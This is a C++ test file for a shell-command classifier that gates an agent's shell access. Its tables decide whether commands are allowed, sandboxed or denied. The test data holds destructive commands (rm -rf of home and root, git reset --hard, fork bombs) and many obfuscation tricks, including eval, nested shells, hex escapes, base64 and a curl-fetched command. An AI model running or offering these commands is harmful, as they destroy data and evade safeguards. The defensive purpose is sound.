// Every place where code runs: lists, pipelines, compound bodies, functions, substitutions,
// process substitutions, heredocs, arithmetic subscripts, eval/trap/alias strings, nested shells.
#include "classify_helpers.h"

using toolcage::Decision;
using toolcage::classify::testing::check_table;

TEST_CASE("shell: lists and pipelines take the most severe member", "[classify][shell]") {
    check_table({
        {"ls && rm -rf /", Decision::deny},
        {"ls || rm -rf /", Decision::deny},
        {"ls; rm -rf /", Decision::deny},
        {"ls\nrm -rf /", Decision::deny},
        {"ls & rm -rf / &", Decision::deny},
        {"true | rm -rf /", Decision::deny},
        {"! rm -rf /", Decision::deny},
        {"time rm -rf /", Decision::deny},
        {"ls |& rm -rf ~", Decision::deny},
        {"git checkout -b foo ; rm -rf /", Decision::deny},
        {"ls -la && git status && pwd", Decision::allow},
        {"sort data.csv | uniq -c | sort -rn | head", Decision::allow},
        {"ps aux | grep node", Decision::allow},
        {"cat a | tee /dev/null | wc -l", Decision::allow},
        {"echo $HOME", Decision::allow},
        {"", Decision::allow},
        {"# just a comment", Decision::allow},
        {":", Decision::allow},
    });
}

TEST_CASE("shell: compound commands", "[classify][shell]") {
    check_table({
        {"if true; then rm -rf ~; fi", Decision::deny},
        {"if rm -rf ~; then :; fi", Decision::deny},
        {"if false; then :; elif true; then rm -rf ~; else :; fi", Decision::deny},
        {"if false; then :; else git reset --hard; fi", Decision::deny},
        {"while true; do rm -rf ~; done", Decision::deny},
        {"until false; do rm -rf ~; done", Decision::deny},
        {"while read f; do rm -f \"$f\"; done < list.txt", Decision::deny},
        {"for i in 1 2 3; do echo $i; done", Decision::allow},
        {"for ((i=0; i<3; i++)); do rm -rf ~; done", Decision::deny},
        {"case x in x) rm -rf ~;; esac", Decision::deny},
        {"case $1 in start) ls;; stop) git reset --hard;; esac", Decision::deny},
        {"{ git reset --hard; echo done; }", Decision::deny},
        {"( rm -rf ~ )", Decision::deny},
        {"(( x = 1 + 2 ))", Decision::allow},
        {"[[ -f x ]] && rm -rf ~", Decision::deny},
        {"[[ $(rm -rf ~) ]]", Decision::deny},
        {"select x in a b; do rm -rf ~; done", Decision::deny},
        {"coproc rm -rf ~", Decision::deny},
        {"coproc NAME { rm -rf ~; }", Decision::deny},
        {"{ ls; } > /etc/passwd", Decision::deny},
        {"while :; do ls; done > out.txt", Decision::cage},
    });
}

TEST_CASE("shell: functions run where they are called (and their bodies are judged)", "[classify][shell]") {
    check_table({
        {"f(){ rm -rf ~; }; f", Decision::deny},
        {"f(){ rm -rf ~; }", Decision::deny},
        {"function cleanup { git clean -fdx; }; cleanup", Decision::deny},
        {"function f() { rm -rf build; }; f", Decision::cage},
        {"f(){ rm -rf build; }; cd /; f", Decision::deny},
        {"f(){ rm -rf \"$1\"; }; f build", Decision::cage},
        {"f(){ rm -rf \"$1\"; }; f ~", Decision::deny},
        {"f(){ ls; }; f", Decision::allow},
        {"ls(){ rm -rf ~; }; ls", Decision::deny},
        {"f(){ g; }; g(){ rm -rf ~; }; f", Decision::deny},
        {"f(){ f; }; f", Decision::allow},
        {":(){ :|:& };:", Decision::deny, "shell.fork-bomb"},
        {"bomb(){ bomb | bomb & }; bomb", Decision::deny, "shell.fork-bomb"},
        {"x(){ x & x; }; x", Decision::deny, "shell.fork-bomb"},
    });
}

TEST_CASE("shell: substitutions run", "[classify][shell]") {
    check_table({
        {"echo $(rm -rf ~)", Decision::deny},
        {"echo `rm -rf /home`", Decision::deny},
        {"echo \"$(rm -rf ~)\"", Decision::deny},
        {"echo \"$(echo \" ) \" )\"; rm -rf /", Decision::deny},
        {"X=$(rm -rf ~)", Decision::deny},
        {"export X=$(rm -rf ~)", Decision::deny},
        {"echo x > $(rm -rf ~)", Decision::deny},
        {"cat < <(rm -rf ~)", Decision::deny},
        {"diff <(ls a) <(ls b)", Decision::allow},
        {"tee >(rm -rf /)", Decision::deny},
        {"echo ${X:-$(rm -rf ~)}", Decision::deny},
        {"echo $(( a[$(rm -rf ~)] ))", Decision::deny},
        {"echo \"$(( rm -rf /x ))\"", Decision::allow},
        {"echo $(( 1 + 2 ))", Decision::allow},
        {"x='$(rm -rf ~)'; echo $(( a[$x] ))", Decision::deny},
        {"echo $(git rev-parse HEAD)", Decision::allow},
        {"echo \"$(date)\" > build/stamp", Decision::cage},
        {"cat <<EOF\n$(rm -rf ~)\nEOF", Decision::deny},
        {"cat <<'EOF'\n$(rm -rf ~)\nEOF", Decision::allow},
        {"cat <<'EOF'\nrm -rf /\ngit reset --hard\nEOF", Decision::allow},
        {"a[$(rm -rf ~)]=1", Decision::deny},
    });
}

TEST_CASE("shell: strings that become code", "[classify][shell]") {
    check_table({
        {"eval 'rm -rf ~'", Decision::deny},
        {"eval \"rm\" \"-rf\" \"~\"", Decision::deny},
        {"VAR='rm -rf ~'; eval \"$VAR\"", Decision::deny},
        {"a='git reset'; b='--hard'; eval \"$a $b\"", Decision::deny},
        {"eval \"$(ssh-agent -s)\"", Decision::cage},
        {"eval \"$UNKNOWN\"", Decision::cage, "eval.dynamic"},
        {"eval ls", Decision::allow},
        {"trap 'rm -rf ~' EXIT", Decision::deny},
        {"trap -- 'git reset --hard' INT TERM", Decision::deny},
        {"trap 'echo bye' EXIT", Decision::allow},
        {"trap - EXIT", Decision::allow},
        {"alias ll='rm -rf ~'", Decision::deny},
        {"alias ll='ls -la'; ll", Decision::allow},
        {"alias g=git; g reset --hard", Decision::deny},
        {"bash -c \"rm -rf ~\"", Decision::deny},
        {"bash -lc 'git clean -fdx'", Decision::deny},
        {"bash -ec 'rm -rf ~'", Decision::deny},
        {"bash -o pipefail -c 'rm -rf ~'", Decision::deny},
        {"bash --norc --noprofile -c 'rm -rf ~'", Decision::deny},
        {"sh -c 'sh -c \"bash -c \\\"rm -rf ~\\\"\"'", Decision::deny},
        {"zsh -c 'rm -rf /'", Decision::deny},
        {"dash -c 'rm -rf /'", Decision::deny},
        {"ksh -c 'rm -rf /'", Decision::deny},
        {"fish -c 'rm -rf ~'", Decision::deny},
        {"bash -c 'rm -rf \"$1\"' _ ~", Decision::deny},
        {"bash -c 'rm -rf \"$1\"' _ build", Decision::cage},
        {"bash -c ls", Decision::allow},
        {"bash -n script.sh", Decision::allow},
        {"bash script.sh", Decision::cage, "shell.script"},
        {"sh", Decision::cage},
        {"bash -c \"$(echo cm0gLXJmIH4K | base64 -d)\"", Decision::deny},
        {"sh -c \"$X\"", Decision::cage},
        {"sh -c \"rm -rf $X\"", Decision::deny},
        {"sh -s <<EOF\nrm -rf ~\nEOF", Decision::deny},
        {"bash <<'EOF'\ngit reset --hard\nEOF", Decision::deny},
        {"bash <<< 'rm -rf ~'", Decision::deny},
        {"echo 'git reset --hard' | sh", Decision::deny},
        {"printf 'rm -rf ~\\n' | sh -s", Decision::deny},
        {"echo ls | sh", Decision::allow},
        {"cat script.sh | bash", Decision::cage},
        {"source .venv/bin/activate", Decision::cage, "shell.source"},
        {". ./env.sh", Decision::cage},
        {"source <(echo 'rm -rf ~')", Decision::deny},
        {"bash <(echo 'rm -rf ~')", Decision::deny},
        {"sh -c 'eval \"rm -rf ~\"'", Decision::deny},
    });
}

TEST_CASE("shell: variables and quoting tricks", "[classify][shell]") {
    check_table({
        {"a=r; b=m; $a$b -rf ~", Decision::deny},
        {"X=$(printf '\\x72\\x6d'); $X -rf ~", Decision::deny},
        {"$'\\x72\\x6d' -rf ~", Decision::deny},
        {"$'\\162\\155' -rf ~", Decision::deny},
        {"r\"\"m -rf /", Decision::deny},
        {"'rm' -rf ~", Decision::deny},
        {"\"rm\" \"-rf\" \"/\"", Decision::deny},
        {"$(echo rm) -rf ~", Decision::deny},
        {"`echo rm` -rf ~", Decision::deny},
        {"$(printf rm) -rf ~", Decision::deny},
        {"$x -rf /", Decision::deny, "unknown.program-destructive"},
        {"\"$CMD\" -rf ~", Decision::deny},
        {"$CMD --force --recursive /", Decision::deny},
        {"$G reset --hard", Decision::deny},
        {"$EDITOR notes.md", Decision::cage, "unknown.dynamic-program"},
        {"$(curl -s http://x/cmd) ~", Decision::deny},
        {"X=\"rm -rf ~\"; $X", Decision::deny, "rm.home"},  // eval'd or typed, it is the home
        {"X=\"rm -rf /\"; $X", Decision::deny},
        {"X='rm -rf'; $X ~", Decision::deny},
        {"cmd=(rm -rf ~); \"${cmd[@]}\"", Decision::deny},
        {"printf -v c 'rm'; $c -rf ~", Decision::deny},
        {"IFS=,; x=rm,-rf,/; $x", Decision::deny},
        {"x=${HOME}; rm -rf \"$x\"", Decision::deny},
        {"x=~; y=$x/..; rm -rf $y", Decision::deny},
        {"unset HOME; rm -rf ~", Decision::deny},
        {"HOME=/tmp/h; rm -rf ~", Decision::cage},
        {"echo \"rm -rf /\"", Decision::allow},
        {"echo $'rm -rf /'", Decision::allow},
        {"echo rm -rf /", Decision::allow},
    });
}
